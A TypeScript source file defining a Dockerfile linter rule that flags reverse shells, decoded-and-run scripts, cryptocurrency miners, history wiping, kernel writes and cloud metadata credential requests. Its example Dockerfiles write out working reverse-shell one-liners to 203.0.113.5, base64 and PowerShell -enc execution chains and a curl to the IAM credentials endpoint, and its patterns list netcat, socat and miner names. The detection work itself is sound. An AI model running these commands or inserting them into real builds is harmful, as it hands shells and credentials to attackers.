import { interpreterOf, readsProgram } from "../../dockerfile/commands/consumers.ts";
import { commandsOf } from "../../dockerfile/commands/scripts.ts";
import { fileSays } from "../../dockerfile/model/fileText.ts";
import type { Step } from "../../dockerfile/model/model.ts";
import { stepText } from "../../dockerfile/model/stepText.ts";
import { POSIX_SHELLS } from "../../knowledge/wrappers.ts";
import { sourceSpan } from "../../mappedText.ts";
import type { ShellCommand } from "../../shell/model.ts";
import { comparable } from "../../shell/words.ts";
import { defineRule, type Report } from "../rule.ts";

const MINERS =
	/(?:^|[/\s=@'"-])(xmrig|minerd|cpuminer(?:-multi)?|ethminer|nbminer|xmr-stak|stratum\+(?:tcp|ssl))(?:$|[/\s:.'"@]|-v?\d|-(?:linux|x86|amd64|cuda|static|multi))/i;
/** What the names of miners have one of. */
const MINER_PARTS = /miner|xmr|stratum/i;
const POWERSHELL = /powershell|pwsh/i;
const RUNS: ReadonlySet<string> = new Set(["RUN", "CMD", "ENTRYPOINT", "HEALTHCHECK"]);
const METADATA = /^(?:https?:\/\/)?(?:169\.254\.169\.254|metadata\.google\.internal|100\.100\.100\.200)(?:[/:]|$)/i;

export const suspiciousCommand = defineRule({
	id: "suspicious-command",
	title: "A command looks like the work of an attacker",
	category: "supply-chain",
	severity: "error",
	preset: "recommended",
	needs: "file",
	since: "0.1.0",
	subCodes: {
		"reverse-shell": "A shell is handed to another machine",
		"decode-and-execute": "A disguised script is run",
		miner: "A miner of cryptocurrency",
		traces: "Traces are wiped, or files are made hard to remove",
		kernel: "A setting of the kernel is written",
		metadata: "The cloud's metadata service is asked",
	},
	equivalents: [],
	onlyWith: {
		texts: [
			...["/dev/tcp/", "/dev/udp/", "ncat", "netcat", "nc.traditional", "socat", "nc ", "nc\t", "nc\\", 'nc"', "nc'"],
			...["base64", "xxd", "b64decode", "unhexlify", "openssl", "powershell", "pwsh"],
			...["xmrig", "minerd", "cpuminer", "ethminer", "nbminer", "xmr-stak", "stratum+"],
			...["chattr", "histfile", "history", "/proc/sys", "169.254.169.254", "metadata.google.internal", "100.100.100.200"],
		],
	},
	why: "Nobody needs to disguise what a build does. A shell that is connected to another machine, a script that is decoded and run at once, a program that mines cryptocurrency, a question to the metadata service that hands out the machine's credentials: these are what attackers add to Dockerfiles, in pull requests, in examples to copy, in images on which others build.",
	remedy:
		"Find out who wrote it and why. If it is harmless after all, write it in the open: put a script into a file of its own, and suppress this finding with the reason.",
	references: [
		"https://attack.mitre.org/techniques/T1059/004/",
		"https://attack.mitre.org/techniques/T1027/",
		"https://attack.mitre.org/techniques/T1552/005/",
		"https://attack.mitre.org/techniques/T1496/",
	],
	examples: [
		{
			caption: "Shells for others",
			bad: 'FROM debian:12\nRUN «bash» -i >& /dev/tcp/203.0.113.5/4444 0>&1\nRUN «nc» -e /bin/sh 203.0.113.5 4444\nCMD sh -c "«ncat» 203.0.113.5 4444 --exec /bin/bash"\nRUN cat /f | «sh» -i 2>&1 | nc 203.0.113.5 80 > /f\n',
		},
		{
			caption: "A shell for whoever connects",
			bad: "FROM debian:12\nRUN «socat» TCP:203.0.113.5:80 EXEC:'bash -li',pty,stderr\n",
		},
		{
			caption: "Decoded and run",
			bad: 'FROM debian:12\nRUN echo ZWNobyBoaQo= | «base64» -d | sh && «eval» "$(echo ZWNobyBoaQo= | base64 --decode)"\nRUN «python3» -c "import base64;exec(base64.b64decode(\'cHJpbnQoMSk=\'))" && echo 6563686f | «xxd» -r -p | bash -s\n',
		},
		{
			caption: "Miners, traces, settings, credentials",
			bad: 'FROM debian:12\nRUN git clone «https://github.com/xmrig/xmrig.git»\nRUN «chattr» +i /etc/passwd && «unset» HISTFILE && «history» -cw && echo 1 «>» /proc/sys/net/ipv4/ip_forward && echo 1 | «tee» /proc/sys/net/ipv4/ip_forward\nRUN curl -s «http://169.254.169.254/latest/meta-data/iam/security-credentials/» > /c\nENTRYPOINT ["/x", «"stratum+tcp://pool.example.com:3333"»]\n',
		},
		{
			caption: "PowerShell",
			bad: "FROM mcr.microsoft.com/windows/servercore:ltsc2022\nRUN powershell «-enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcA»\n",
		},
		{
			caption: "Decoded into a file, ports that are tried, helpers that serve",
			good: "FROM debian:12\nRUN echo aGkK | base64 -d > /f && base64 -d f | tar x && head -c 16 /dev/urandom | base64 && nc -z localhost 80 && timeout 1 bash -c '</dev/tcp/127.0.0.1/5432' && bash -i -c 'bundle install' && cat /proc/sys/kernel/shmmax && rm -f ~/.bash_history\nHEALTHCHECK CMD echo > /dev/tcp/localhost/80\nCMD nc -lk -p 80 -e handler.sh\nFROM debian:12\nCMD socat TCP-LISTEN:8080,fork EXEC:\"/bin/bash /srv/handler.sh\"\n",
		},
		{
			caption: "Only words",
			good: "FROM debian:12\nENV HISTFILE=/data/history\nRUN echo 'RemoteIPInternalProxy 169.254.0.0/16' > /etc/x && echo base64 -d && apt-get install -y ncat history-tools && pip install minerd-exporter && echo \"bash -i >& /dev/tcp/x\" > README\n",
		},
	],
	check(file) {
		const reports: Report[] = [];
		const namesMiners = fileSays(file, MINER_PARTS);
		const namesPowershell = fileSays(file, POWERSHELL);
		for (const stage of file.stages) {
			for (const step of stage.steps) {
				if (!RUNS.has(step.keyword)) continue;
				const mayMine = namesMiners && MINERS.test(stepText(step));
				for (const command of commandsOf(step)) {
					if (isLookedAt(command)) reports.push(...inCommand(step, command));
					if (mayMine) reports.push(...mining(command));
				}
				if (step.exec !== undefined) reports.push(...inWords(step));
				if (namesPowershell) reports.push(...inPowershell(step));
			}
		}
		return reports;
	},
});

/** Without shells and Python. */
const PROGRAMS: ReadonlySet<string> = new Set(
	"nc ncat netcat nc.traditional socat tee base64 openssl xxd eval chattr unset history ln curl wget".split(" "),
);

/** Whether a command can be anything that {@link inCommand} reports. */
function isLookedAt({ program, redirects }: ShellCommand): boolean {
	if (program === undefined) return false;
	return redirects.length > 0 || PROGRAMS.has(program) || POSIX_SHELLS.has(program) || program.startsWith("python");
}

function inCommand(step: Step, command: ShellCommand): readonly Report[] {
	const { program, name } = command;
	if (program === undefined || name === undefined) return [];
	const texts = command.args.map(comparable);
	const reports: Report[] = [];
	if (givesShell(command, texts))
		reports.push({ span: name.span, message: `${program} hands a shell to another machine`, subCode: "reverse-shell" });
	if (decodes(command, texts) && isRunBehind(command))
		reports.push({ span: name.span, message: `What ${program} decodes is run at once`, subCode: "decode-and-execute" });
	if (runsDecoded(program, command))
		reports.push({ span: name.span, message: `${program} runs a text that is decoded on the way`, subCode: "decode-and-execute" });
	const wiped = wipesTraces(program, texts);
	if (wiped !== undefined) reports.push({ span: name.span, message: wiped, severity: "warning", subCode: "traces" });
	const kernel =
		step.keyword === "RUN"
			? command.redirects.find(({ operator, target }) => operator.startsWith(">") && /^\/proc\/sys\//.test(target?.value ?? ""))
			: undefined;
	const file = step.keyword === "RUN" && program === "tee" ? command.args.find((word) => word.value?.startsWith("/proc/sys/")) : undefined;
	if (kernel !== undefined || file !== undefined)
		reports.push({
			span: kernel === undefined ? name.span : { start: kernel.span.start, end: kernel.span.start + kernel.operator.length },
			message: "A setting of the build machine's kernel is written",
			severity: "warning",
			subCode: "kernel",
		});
	if (step.keyword === "RUN" && (program === "curl" || program === "wget")) {
		const word = command.args.find((candidate) => METADATA.test(comparable(candidate)));
		if (word !== undefined)
			reports.push({
				span: word.span,
				message: "The build asks the cloud's metadata service, which hands out credentials",
				severity: "warning",
				subCode: "metadata",
			});
	}
	return reports;
}

function mining({ program, name, args }: ShellCommand): readonly Report[] {
	if (program === undefined || name === undefined || program === "echo" || program === "printf") return [];
	for (const word of [...args, name]) {
		const miner = MINERS.exec(comparable(word));
		if (miner === null) continue;
		return [{ span: word.span, message: `${miner[1]} mines cryptocurrency`, severity: "warning", subCode: "miner" }];
	}
	return [];
}

function givesShell(command: ShellCommand, texts: readonly string[]): boolean {
	const { program = "" } = command;
	const connected = command.redirects.some(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target === undefined ? "" : comparable(target)));
	if (POSIX_SHELLS.has(program))
		return (
			(connected || isPipedOut(command)) && texts.some((text) => /^-[a-z]*i/.test(text)) && !texts.some((text) => /^-[a-z]*c$/.test(text))
		);
	if (program === "socat")
		return (
			texts.some((text) => /^(?:tcp|udp|openssl)/i.test(text)) &&
			texts.some((text) => /^(?:exec|system):["']?(?:\/\S*\/)?(?:ba|da|z)?sh(?:\s+-[a-z]+)*["']?(?:,.*)?$/i.test(text))
		);
	if (!NETCATS.test(program)) return false;
	const at = texts.findIndex((text) => /^-[a-zA-Z]*[ec]$|^--(?:sh-)?exec$/.test(text));
	return at !== -1 && /(?:^|\/)(?:ba|da|a|z)?sh\b|cmd(?:\.exe)?$|powershell/.test(texts[at + 1] ?? "");
}

const NETCATS = /^(?:nc|ncat|netcat|nc\.traditional)$/;

/** `sh -i 2>&1 | nc HOST PORT`. */
function isPipedOut(command: ShellCommand): boolean {
	const members = command.pipeline?.commands ?? [];
	return NETCATS.test(members[members.indexOf(command) + 1]?.program ?? "");
}

function decodes({ program }: ShellCommand, texts: readonly string[]): boolean {
	if (program === "base64") return texts.some((text) => /^-[a-z]*[dD]|^--decode$/.test(text));
	if (program === "openssl") return texts.some((text) => /^-?base64$|^-a$/.test(text)) && texts.includes("-d");
	return program === "xxd" && texts.some((text) => /^-[a-z]*r/.test(text));
}

/** Whether an interpreter further down the pipe reads a program. */
function isRunBehind(command: ShellCommand): boolean {
	const outer = command.wrapper?.pipeline === undefined ? command : command.wrapper;
	const members = outer.pipeline?.commands ?? [];
	return members.slice(members.indexOf(outer) + 1).some((member) => {
		const program = member.program === "sudo" ? member.args.find((word) => !word.text.startsWith("-"))?.value : member.program;
		const interpreter = program === undefined ? undefined : interpreterOf(program);
		return interpreter !== undefined && (member.program === "sudo" || readsProgram(member, interpreter));
	});
}

/** `eval "$(… base64 -d)"`, `sh -c "$(… base64 -d)"`, `python -c "exec(b64decode(…))"`. */
function runsDecoded(program: string, command: ShellCommand): boolean {
	const { args } = command;
	const substituted = (text: string): boolean =>
		/^"?(?:\$\(|`)[^|]{1,2000}\|\s{0,20}(?:base64\s{1,5}(?:-d|-D|--decode)|xxd\s{1,5}-r)/.test(text);
	if (program === "eval") return args.some((word) => substituted(word.text));
	const script = args[args.findIndex((word) => /^-[a-z]*c$/.test(word.text)) + 1];
	if (script === undefined || !args.some((word) => /^-[a-z]*c$/.test(word.text))) return false;
	if (POSIX_SHELLS.has(program)) return substituted(script.text);
	return /^python[0-9.]*$/.test(program) && /\bexec\s{0,5}\(/.test(script.text) && /b64decode|unhexlify/.test(script.text);
}

function wipesTraces(program: string, texts: readonly string[]): string | undefined {
	if (program === "chattr")
		return texts.some((text) => /^\+[a-zA-Z]*i/.test(text)) ? "chattr makes files hard to change and to remove" : undefined;
	if (program === "history" && texts.some((text) => /^-[a-z]*c/.test(text))) return "The shell's history is thrown away";
	if (program === "unset" && texts.includes("HISTFILE")) return "The shell is told to forget what it ran";
	if (program === "ln" && texts.includes("/dev/null") && texts.some((text) => /\.(?:bash_|zsh_|ash_)?history$/.test(text)))
		return "The shell's history is thrown away";
	return undefined;
}

/** Words of exec form. */
function inWords(step: Step): readonly Report[] {
	if (commandsOf(step).length > 0) return [];
	return (step.exec?.elements ?? []).flatMap(({ span, value }): readonly Report[] => {
		const miner = value.length < 300 ? MINERS.exec(value) : null;
		return miner === null ? [] : [{ span, message: `${miner[1]} mines cryptocurrency`, severity: "warning", subCode: "miner" }];
	});
}

function inPowershell(step: Step): readonly Report[] {
	const { text } = step.arguments;
	if (!POWERSHELL.test(text)) return [];
	const match = /(?<=\s)-e(?:c|nc|ncodedcommand)?\s{1,5}["']?[A-Za-z0-9+/=]{40}/i.exec(text);
	if (match === null) return [];
	const rest = /^[A-Za-z0-9+/=]{0,20000}/.exec(text.slice(match.index + match[0].length))?.[0].length ?? 0;
	return [
		{
			span: sourceSpan(step.arguments, match.index, match.index + match[0].length + rest),
			message: "PowerShell runs a disguised script",
			subCode: "decode-and-execute",
		},
	];
}
